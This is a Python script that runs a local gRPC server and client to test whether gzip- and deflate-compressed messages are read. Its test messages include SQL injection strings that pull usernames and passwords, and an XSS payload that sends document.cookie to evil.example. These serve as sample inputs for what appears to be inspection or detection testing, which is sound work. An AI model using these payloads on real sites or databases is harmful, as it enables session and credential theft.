#!/usr/bin/python3
"""grpc_gzip_peer.py server PORT | client PORT

python3-grpcio peers whose client compresses its messages: a server with
one raw-bytes service, demo.Search (any method answers "ok:" and the
request's length; grpcio servers decode gzip and deflate themselves),
and a client making one unary call per method, each on a channel with
compression set: Benign (gzip, prose with SQL words and an apostrophe),
Find (gzip, an SQL injection), Render (gzip, an XSS), Lookup (deflate, an
SQL injection). Prints one JSON line per call: method, compression, and
whether the server read the message (its answer names the plain length).
Messages carry a repetitive second field: grpcio sends a message
uncompressed when compressing would not shrink it (short ones)."""
import json
import sys
from concurrent import futures

import grpc

SERVICE = "demo.Search"


def pb(text):
    """field 1 the text, field 2 a repetitive filler: grpcio compresses a
    message only when that makes it smaller, which a short one is not"""
    filler = b"lang=en-GB page=1 " * 7
    return b"\x0a" + bytes([len(text)]) + text + b"\x12" + bytes([len(filler)]) + filler


CALLS = [
    ("Benign", grpc.Compression.Gzip,
     pb(b"O'Brien wants to select a union hall; drop me a line, cat lovers")),
    ("Find", grpc.Compression.Gzip,
     pb(b"1' UNION SELECT username, password FROM users WHERE '1'='1")),
    ("Render", grpc.Compression.Gzip,
     pb(b"<script>document.location='http://evil.example/?c='+document.cookie</script>")),
    ("Lookup", grpc.Compression.Deflate,
     pb(b"0 OR 1=1 UNION SELECT password FROM users-- ")),
]


def answer(req, ctx):
    return b"ok:%d" % len(req)


def serve(port):
    srv = grpc.server(futures.ThreadPoolExecutor(max_workers=2))
    handlers = {m: grpc.unary_unary_rpc_method_handler(answer) for m, _, _ in CALLS}
    srv.add_generic_rpc_handlers((grpc.method_handlers_generic_handler(SERVICE, handlers),))
    srv.add_insecure_port("127.0.0.1:%d" % port)
    srv.start()
    print("serving", flush=True)
    srv.wait_for_termination(timeout=300)


def client(port):
    for method, comp, msg in CALLS:
        with grpc.insecure_channel("127.0.0.1:%d" % port, compression=comp) as ch:
            grpc.channel_ready_future(ch).result(timeout=10)
            got = ch.unary_unary("/%s/%s" % (SERVICE, method))(msg, timeout=5)
            print(json.dumps({"rpc": method, "compression": str(comp),
                              "read": got == b"ok:%d" % len(msg)}), flush=True)


if __name__ == "__main__":
    {"server": serve, "client": client}[sys.argv[1]](int(sys.argv[2]))
